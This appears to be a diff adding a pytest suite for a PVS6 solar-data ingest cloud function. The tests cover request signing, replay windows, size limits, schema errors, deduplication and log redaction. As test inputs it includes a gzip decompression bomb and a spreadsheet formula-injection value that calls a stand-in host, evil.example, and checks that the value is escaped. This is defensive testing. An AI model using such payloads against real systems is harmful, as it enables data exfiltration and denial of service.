@@ -1,0 +1,169 @@
+"""The ingest function at the door, through functions-framework's real app: who gets in, and what is written."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import logging
+import time
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from functions_framework import create_app
+from pvs6_cloud.runtime import Runtime, set_runtime
+
+from tests.support.cloud import SECRET, envelope, local_config, signed, snapshot_item
+
+MAIN = Path(__file__).resolve().parents[1] / "cloud" / "main.py"
+T0 = datetime(2025, 9, 12, 17, 0, tzinfo=UTC)
+
+
+@pytest.fixture
+def client(tmp_path):
+    config = local_config(tmp_path)
+    set_runtime(Runtime(config))
+    app = create_app(target="ingest", source=str(MAIN), signature_type="http")
+    yield app.test_client(), tmp_path
+    set_runtime(None)
+
+
+def _post(client, body: bytes, headers: dict[str, str]):
+    return client.post("/", data=body, headers=headers)
+
+
+def _readings(tmp: Path) -> list[str]:
+    path = tmp / "sheet" / "Readings.csv"
+    return path.read_text().splitlines()[1:] if path.exists() else []
+
+
+def test_signed_batch_is_stored_and_acknowledged(client, seed_payload):
+    http, tmp = client
+    item = snapshot_item(seed_payload, T0)
+    body, headers = signed(envelope([item]))
+    reply = _post(http, body, headers)
+    assert reply.status_code == 200, reply.get_data(as_text=True)
+    assert reply.get_json() == {"accepted": [item["sha256"]], "duplicates": []}
+    assert len(_readings(tmp)) == 1
+
+
+def test_same_snapshot_twice_makes_one_row(client, seed_payload):
+    http, tmp = client
+    item = snapshot_item(seed_payload, T0)
+    for _ in range(2):
+        body, headers = signed(envelope([item, item]))
+        reply = _post(http, body, headers)
+        assert reply.status_code == 200
+    assert reply.get_json() == {"accepted": [], "duplicates": [item["sha256"], item["sha256"]]}
+    assert len(_readings(tmp)) == 1
+
+
+@pytest.mark.parametrize(
+    ("mutate", "status", "says"),
+    [
+        (lambda b, h: (b, {**h, "X-Sentinel-Signature": "sha256=" + "0" * 64}), 401, "bad signature"),
+        (lambda b, h: (b, {**h, "X-Sentinel-Site": "stranger"}), 401, "unknown"),
+        (lambda b, h: (b, {k: v for k, v in h.items() if k != "X-Sentinel-Timestamp"}), 401, "Timestamp"),
+    ],
+    ids=["forged", "unknown-site", "no-timestamp"],
+)
+def test_refused_requests_write_nothing(client, seed_payload, mutate, status, says):
+    http, tmp = client
+    body, headers = mutate(*signed(envelope([snapshot_item(seed_payload, T0)])))
+    reply = _post(http, body, headers)
+    assert reply.status_code == status
+    assert says in reply.get_json()["error"]
+    assert _readings(tmp) == []
+
+
+def test_stale_timestamp_is_refused(client, seed_payload):
+    http, tmp = client
+    body, headers = signed(envelope([snapshot_item(seed_payload, T0)]), timestamp=int(time.time()) - 301)
+    reply = _post(http, body, headers)
+    assert reply.status_code == 401
+    assert "window" in reply.get_json()["error"]
+    assert _readings(tmp) == []
+
+
+def test_oversize_body_gets_413(client):
+    http, tmp = client
+    raw = bytes(range(256)) * (4200)  # > 1 MiB of incompressible-looking bytes
+    body, headers = signed(None, raw=raw)
+    reply = _post(http, body, headers)
+    assert reply.status_code == 413
+    assert _readings(tmp) == []
+
+
+def test_gzip_bomb_gets_413_without_inflating_it_whole(client):
+    http, _tmp = client
+    bomb = gzip.compress(b"[" + b" " * (64 << 20) + b"]", compresslevel=9)
+    assert len(bomb) < (1 << 20)
+    body, headers = signed(None, raw=bomb)
+    reply = _post(http, body, headers)
+    assert reply.status_code == 413
+    assert "16 MiB" in reply.get_json()["error"]
+
+
+@pytest.mark.parametrize(
+    ("body_obj", "says"),
+    [
+        ({"schema": 2, "site": "home", "snapshots": []}, "schema"),
+        ({"schema": 1, "site": "home", "snapshots": [{"source": "dl_cgi"}]}, "snapshots[0]"),
+        ({"schema": 1, "site": "home", "snapshots": "nope"}, "list"),
+        ({"schema": 1, "site": "other", "snapshots": []}, "site"),
+    ],
+    ids=["schema", "item-fields", "not-a-list", "site-mismatch"],
+)
+def test_contract_breaks_get_400_with_a_reason(client, body_obj, says):
+    http, tmp = client
+    body, headers = signed(body_obj)
+    reply = _post(http, body, headers)
+    assert reply.status_code == 400
+    assert says in reply.get_json()["error"]
+    assert _readings(tmp) == []
+
+
+def test_malformed_json_gets_400(client):
+    http, _tmp = client
+    body, headers = signed(None, raw=gzip.compress(b"{not json"))
+    reply = _post(http, body, headers)
+    assert reply.status_code == 400
+    assert "JSON" in reply.get_json()["error"]
+
+
+def test_not_a_pvs_payload_is_refused_and_nothing_written(client, seed_payload):
+    http, tmp = client
+    good = snapshot_item(seed_payload, T0)
+    bad = snapshot_item({"hello": "world"}, T0 + timedelta(minutes=15))
+    body, headers = signed(envelope([good, bad]))
+    reply = _post(http, body, headers)
+    assert reply.status_code == 400
+    assert bad["sha256"][:12] in reply.get_json()["error"]
+    assert _readings(tmp) == []
+
+
+def test_get_is_not_allowed(client):
+    http, _ = client
+    assert http.get("/").status_code == 405
+
+
+def test_device_strings_stay_text(client, seed_payload):
+    http, tmp = client
+    payload = json.loads(json.dumps(seed_payload))
+    payload["devices"][3]["MODEL"] = '=IMPORTXML("http://evil.example","//a")'
+    body, headers = signed(envelope([snapshot_item(payload, T0)]))
+    assert _post(http, body, headers).status_code == 200
+    devices = (tmp / "sheet" / "Devices.csv").read_text()
+    assert "'=IMPORTXML" in devices
+    assert ',=IMPORTXML' not in devices
+
+
+def test_secret_and_signature_never_logged(client, seed_payload, caplog):
+    http, _ = client
+    caplog.set_level(logging.DEBUG)
+    body, headers = signed(envelope([snapshot_item(seed_payload, T0)]))
+    _post(http, body, {**headers, "X-Sentinel-Signature": "sha256=" + "f" * 64})
+    _post(http, body, headers)
+    text = caplog.text
+    assert SECRET not in text
+    assert headers["X-Sentinel-Signature"].split("=", 1)[1] not in text
